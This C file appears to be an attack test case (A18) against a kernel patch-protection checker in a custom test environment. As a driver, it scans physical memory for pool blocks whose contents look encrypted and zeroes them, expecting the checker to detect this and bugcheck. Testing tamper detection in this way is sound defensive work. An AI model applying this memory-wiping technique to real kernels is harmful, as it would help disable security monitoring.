/* attack_a18 (A18): find the checker's context in pool memory and destroy
 * it. Scans all of RAM through the kernel's direct map for pool arenas
 * (block headers carry the magic "POOL"), walks their blocks, and
 * overwrites every block whose bytes look encrypted (almost every byte
 * value present, as in random data). Expected: 0x109 type 0x101 when the
 * checker next opens its context and its self-hash fails. */
#include "attack.h"

#define POOL_MAGIC_USED 0x4C4F4F50u
#define POOL_MAGIC_FREE 0x45455246u
#define ARENA_BYTES 0x10000ull
#define LARGE_PAGE 0x200000ull
#define MIN_BLOCK 1024
#define SAMPLE 1024
#define RANDOM_DISTINCT 200 /* of 256 byte values; 1024 random bytes show about 250 */

struct block {
	uint32_t magic, tag;
	uint64_t size;
	void *next;
	uint64_t pad;
};

static bool looks_random(const uint8_t *p, uint64_t n)
{
	uint8_t seen[32] = {0};
	unsigned distinct = 0;
	if (n > SAMPLE)
		n = SAMPLE;
	for (uint64_t i = 0; i < n; i++)
		if (!(seen[p[i] >> 3] & (1 << (p[i] & 7)))) {
			seen[p[i] >> 3] |= 1 << (p[i] & 7);
			distinct++;
		}
	return distinct >= RANDOM_DISTINCT;
}

#define MAX_VICTIMS 8

status_t driver_entry(struct driver_object *drv)
{
	struct block *victim[MAX_VICTIMS];
	unsigned found = 0;
	uint64_t ram = 0;
	while (a_mapped(KPP_DIRECT_MAP_BASE + ram))
		ram += LARGE_PAGE;
	for (uint64_t pa = 0; pa < ram; pa += A_PAGE) {
		struct block *b = (struct block *)(KPP_DIRECT_MAP_BASE + pa);
		if (b->magic != POOL_MAGIC_USED && b->magic != POOL_MAGIC_FREE)
			continue;
		/* Walk the arena from here while the headers make sense. */
		uint64_t off = 0;
		while (off + sizeof *b <= ARENA_BYTES) {
			struct block *k = (struct block *)((uint64_t)b + off);
			if ((k->magic != POOL_MAGIC_USED && k->magic != POOL_MAGIC_FREE) || k->size > ARENA_BYTES ||
			    (k->size & 15))
				break;
			if (k->magic == POOL_MAGIC_USED && k->size >= MIN_BLOCK && found < MAX_VICTIMS &&
			    looks_random((const uint8_t *)(k + 1), k->size))
				victim[found++] = k;
			off += sizeof *k + k->size;
		}
	}
	if (!found) {
		printk("attack_a18: no encrypted-looking pool block found\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	printk("attack_a18: scanned pool, wiping %u encrypted-looking block(s)\n", found);
	/* All at once, so no pass sees half of it. */
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	uint64_t f = a_cli();
	for (unsigned i = 0; i < found; i++)
		memset(victim[i] + 1, 0, victim[i]->size);
	a_restore(f);
	a_patched("attack_a18");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
